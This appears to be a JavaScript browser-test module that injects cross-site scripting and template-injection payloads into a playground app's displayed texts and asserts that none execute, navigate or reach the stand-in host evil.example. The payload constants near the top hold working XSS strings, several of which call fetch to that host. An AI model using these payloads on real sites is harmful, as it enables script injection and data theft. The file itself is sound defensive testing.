// Texts that try to become more than text, and the places of the playground where a server's texts are shown.
import assert from "node:assert/strict";
import { until } from "./wait.mjs";

/** Script of a payload: it leaves a sign on its global object, and asks a host that no test allows. */
const SCRIPT = "globalThis.ran=1;fetch('https://evil.example/ran')";

const MARKUP = [
  `<img src=x onerror="${SCRIPT}">`,
  `<script>${SCRIPT}</script>`,
  `"><svg/onload=${SCRIPT}>`,
  `<svg xmlns="http://www.w3.org/2000/svg"><script>${SCRIPT}</script></svg>`,
  `</textarea></pre></style></title><iframe srcdoc="<script>parent.ran=1</script>"></iframe>`,
  `<a href="javascript:${SCRIPT}">x</a>`,
  `<form action="https://evil.example/"><input name=x autofocus onfocus="${SCRIPT}">`,
  `<base href="https://evil.example/"><link rel=stylesheet href="https://evil.example/x.css"><meta http-equiv=refresh content="0;url=https://evil.example/">`,
  `<style>*{background:url(https://evil.example/x)}</style>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${SCRIPT}&gt;">`,
].join(" ");

const TEMPLATES = `{{constructor.constructor("${SCRIPT}")()}} \${${SCRIPT}} <%= ${SCRIPT} %> #{${SCRIPT}} {server} {host} {name} $& $1 $' %s %c`;

const MARKDOWN = `[x](javascript:${SCRIPT}) ![x](https://evil.example/x.png) <https://evil.example/> <javascript:${SCRIPT}> [y]: https://evil.example/ "z"`;

/** Turns the direction, hides characters, ends lines of a terminal. */
const CONTROLS = "https://evil.example/\u202ecod.exe\u2066\u200b\ufeff\u0000\u0007\u001b[31m\u007f";

/** Each gives a text with a mark in it, by which it is found. */
export const PAYLOADS = {
  "markup, templates and Markdown": (mark) => `${MARKUP} ${TEMPLATES} ${MARKDOWN}${mark}`,
  "javascript:": (mark) => `javascript:${SCRIPT}//${mark}`,
  "data:text/html": (mark) => `data:text/html,<script>${SCRIPT}</script>${mark}`,
  "data:image/svg+xml": (mark) => `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${SCRIPT}"><image href="https://evil.example/x"/></svg>${mark}`,
  "an address with markup": (mark) => `https://evil.example/"><img/src=x/onerror=${SCRIPT}>${mark}`,
  controls: (mark) => `${CONTROLS}${mark}`,
  "very long": (mark) => `${mark}${"long".repeat(5000)}`,
};

/** Characters of a payload that have to be found: of long ones the beginning. */
const MAX_CHARS = 120;

/** Elements that the page has none of: a text became one. */
const STRANGE = "svg, frame, object, embed, style, base, math, template, marquee, video, meta[http-equiv], form[action], [autofocus], [srcdoc], script:not([src^='/playground/']), link:not([href^='/playground/'], [rel=icon])";

/** The places of one scene, filled with one payload: `at(place)` gives the text of a place. */
export function placesFor(payload) {
  const texts = new Map();
  const seen = new Set();
  let numbers = 0;
  const made = (place) => {
    if (!texts.has(place)) texts.set(place, { mark: `~p${++numbers}~`, isShown: true });
    return texts.get(place);
  };
  const at = (place) => payload(made(place).mark);
  return Object.assign(at, {
    /** Of a place that has no text on the page, such as the address of an icon. */
    unshown: (place) => ((made(place).isShown = false), at(place)),
    /** In a header, which has no other characters. */
    header: (place) => at(place).replace(/[^\x20-\x7e]/g, "?").slice(0, 4000),
    /** A word without spaces. */
    word: (place) => at(place).replace(/[\s"\\]/g, "").replace(/[^\x20-\x7e]/g, ""),
    names: () => [...texts.keys()],
    /** Takes what the page shows, and holds it against what it may be. */
    async look(page) {
      const { text, strange, sources } = await page.evaluate(shown, STRANGE);
      assert.deepEqual(strange, []);
      for (const [place, { mark }] of texts) if (formsOf(payload(mark), mark).some((form) => text.includes(form))) seen.add(place);
      const { origin } = new URL(page.url());
      for (const source of sources) {
        const { tag, url, rel, isOfPage } = source;
        const isRight = tag === "img" ? /^data:image\//.test(url) : tag === "audio" ? /^data:audio\//.test(url) : tag === "iframe" ? url.startsWith(`${origin}/playground/app`) : isOfPage || (/^(https:|http:\/\/127\.0\.0\.1:)/.test(url) && rel.includes("noopener"));
        assert.ok(isRight, `an element of ${JSON.stringify(source)}`);
      }
    },
    /** Looks until all of these places were seen. */
    async lookFor(page, ...places) {
      await until(async () => (await at.look(page), places.every((place) => seen.has(place))), () => `the text of ${places.filter((place) => !seen.has(place))}`);
    },
    unseen: () => [...texts].filter(([place, { isShown }]) => isShown && !seen.has(place)).map(([place]) => place),
  });
}

// A text as it is, with what has no shape made visible, as JSON, or as an address.
function formsOf(text, mark) {
  const cut = (form) => (form.length > MAX_CHARS ? form.slice(form.indexOf(mark) < MAX_CHARS ? 0 : -MAX_CHARS).slice(0, MAX_CHARS) : form);
  const json = JSON.stringify(text).slice(1, -1);
  const word = text.replace(/[\s"\\]/g, "").replace(/[^\x20-\x7e]/g, "");
  return [text, text.toLowerCase(), text.replace(/[{}]/g, ""), visible(text), named(text), json, visible(json), named(json), JSON.stringify(json).slice(1, -1), text.replace(/[^\x20-\x7e]/g, "?"), word, URL.parse(text)?.href ?? text].map(cut);
}

const code = (character) => `\\u${character.charCodeAt(0).toString(16).padStart(4, "0")}`;

const named = (text) => text.replace(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/g, code);

const visible = (text) => text.replace(/[\u0000-\u001f\u007f-\u009f\u200b-\u200f\u202a-\u202e\u2066-\u2069\ufeff]/g, code);

// In the page: texts that can be seen, elements that are not the page's, and those with an address.
function shown(strange) {
  const parts = [];
  const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
  while (walker.nextNode()) {
    const { parentElement, data } = walker.currentNode;
    if (parentElement.closest("select, datalist") || parentElement.checkVisibility()) parts.push(data);
  }
  const elements = [...document.querySelectorAll("*")];
  for (const element of elements) {
    for (const name of ["aria-label", "placeholder", "alt", "value", "title"]) if (element.hasAttribute(name)) parts.push("\n", element.getAttribute(name));
    if (typeof element.value === "string") parts.push("\n", element.value);
  }
  const isStrange = (element) => element.matches(strange) || element.getAttributeNames().some((name) => name.startsWith("on"));
  const addressed = elements.filter((element) => element.matches("img, audio, iframe, a[href]"));
  return {
    text: parts.join(""),
    strange: elements.filter(isStrange).map(({ outerHTML }) => outerHTML.slice(0, 200)),
    sources: addressed.map((element) => ({ tag: element.localName, url: element.src ?? element.href, rel: element.rel ?? "", isOfPage: element.closest(".top") !== null })),
  };
}

/** Words of Chromium about what an app's frame may not do. */
const REFUSED = /Content Security Policy|sandboxed|Blocked script execution|Blocked autofocusing|^elsewhere: https:\/\/evil\.example/;

/**
 * Takes note of script, reports and navigation from now on; `check()` holds them against none. What the frame of an app tries is
 * reported, too, where the page's policy or its own refuses it: `frames` says that there is one.
 */
export async function guard(visitor, { frames = false } = {}) {
  const { page, context } = visitor;
  await context.addInitScript(() => {
    if (window.top !== window) return;
    globalThis.reports = [];
    document.addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI, sample }) => globalThis.reports.push(`${effectiveDirective} ${blockedURI} ${sample}`));
  });
  // Counts requests that no policy refused.
  const sent = [];
  await context.route("https://evil.example/**", (route) => (sent.push(route.request().url()), route.abort()));
  await page.reload();
  const went = [];
  page.on("framenavigated", (frame) => frame === page.mainFrame() && went.push(frame.url()));
  return async function check() {
    const [ran, reports, added] = await page.evaluate(() => [globalThis.ran, globalThis.reports, Object.keys(Object.prototype)]);
    assert.deepEqual([ran, reports.filter((report) => !frames || !report.startsWith("frame-src ")), added], [undefined, [], []]);
    for (const worker of page.workers()) assert.deepEqual(await worker.evaluate(() => [globalThis.ran, Object.keys(Object.prototype)]), [undefined, []]);
    assert.deepEqual([went, sent], [[], []]);
    assert.equal(context.pages().length, 1);
    assert.deepEqual(visitor.complaints.filter((complaint) => !frames || !REFUSED.test(complaint)), []);
  };
}
